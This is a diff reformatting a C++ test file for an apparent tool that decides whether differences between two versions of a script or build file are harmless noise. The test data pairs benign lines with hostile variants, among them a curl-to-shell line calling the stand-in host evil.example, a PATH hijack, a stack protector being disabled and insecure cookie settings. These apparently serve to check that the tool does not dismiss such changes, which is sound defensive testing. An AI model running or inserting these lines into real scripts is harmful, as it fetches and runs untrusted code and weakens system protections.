@@ -50,17 +50,18 @@ TEST_CASE("causes: what only looks like one is left over", "[artifact][cause]") 
 }
 
 TEST_CASE("causes: a word nearby or a loose shape closes over nothing that runs", "[artifact][cause][hostile]") {
-  const std::vector<std::array<std::string, 3>> pairs{{"seed=$(date)", "seed=$(curl evil.example|sh)", "a.sh"},
-                                                      {"PATH=/usr/bin", "PATH=/tmp/evil", "a.sh"},
-                                                      {"host=10.0.0.1", "host=66.6.6.6", "a.sh"},
-                                                      {". /tmp/abcXYZ123.sh", ". /tmp/evilXY999.sh", "a.sh"},
-                                                      {"exec /build/a/tool", "exec /build/b/tool", "a.sh"},
-                                                      {"mount 6fa459ea-ee8a-4ca4-894e-db77e160355e", "mount 00000000-ee8a-4ca4-894e-000000000000", "a.sh"},
-                                                      {"CFLAGS=-fstack-protector-strong", "CFLAGS=-fno-stack-protector", "a.mk"},
-                                                      {"if size > 2020: die()", "if size > 2099: die()", "a.py"},
-                                                      {"char b[2048];", "char b[1999];", "a.c"},
-                                                      {"cookie_secure = true", "cookie_secure = false", "a.conf"},
-                                                      {"deny all\nallow x", "allow x\ndeny all", "a.conf"}};
+  const std::vector<std::array<std::string, 3>> pairs{
+      {"seed=$(date)", "seed=$(curl evil.example|sh)", "a.sh"},
+      {"PATH=/usr/bin", "PATH=/tmp/evil", "a.sh"},
+      {"host=10.0.0.1", "host=66.6.6.6", "a.sh"},
+      {". /tmp/abcXYZ123.sh", ". /tmp/evilXY999.sh", "a.sh"},
+      {"exec /build/a/tool", "exec /build/b/tool", "a.sh"},
+      {"mount 6fa459ea-ee8a-4ca4-894e-db77e160355e", "mount 00000000-ee8a-4ca4-894e-000000000000", "a.sh"},
+      {"CFLAGS=-fstack-protector-strong", "CFLAGS=-fno-stack-protector", "a.mk"},
+      {"if size > 2020: die()", "if size > 2099: die()", "a.py"},
+      {"char b[2048];", "char b[1999];", "a.c"},
+      {"cookie_secure = true", "cookie_secure = false", "a.conf"},
+      {"deny all\nallow x", "allow x\ndeny all", "a.conf"}};
   for (const auto& [before, after, name] : pairs) {
     INFO(before);
     const auto head = name == "a.sh" ? std::string{"#!/bin/sh\n"} : std::string{};
@@ -69,7 +70,9 @@ TEST_CASE("causes: a word nearby or a loose shape closes over nothing that runs"
 }
 
 TEST_CASE("causes: in a script too, what is random on both sides by its shape is", "[artifact][cause]") {
-  const auto closed = [](const std::string& before, const std::string& after) { return compare("#!/bin/sh\n" + before + "\n", "#!/bin/sh\n" + after + "\n", "a.sh").closed; };
+  const auto closed = [](const std::string& before, const std::string& after) {
+    return compare("#!/bin/sh\n" + before + "\n", "#!/bin/sh\n" + after + "\n", "a.sh").closed;
+  };
   CHECK(closed("seed=0a1b2c3d4e5f6071", "seed=f00dbabe12345678"));
   CHECK(closed("id=6fa459ea-ee8a-4ca4-894e-db77e160355e", "id=c1d2e3f4-0516-4728-b93a-1b2c3d4e5f60"));
   CHECK(closed("# from /tmp/build.aB3dE6/x.c /tmp/tmp.Ab1Cd2Ef3G", "# from /tmp/build.aB3dE6/x.c /tmp/tmp.Zy9Xw8Vu7T"));
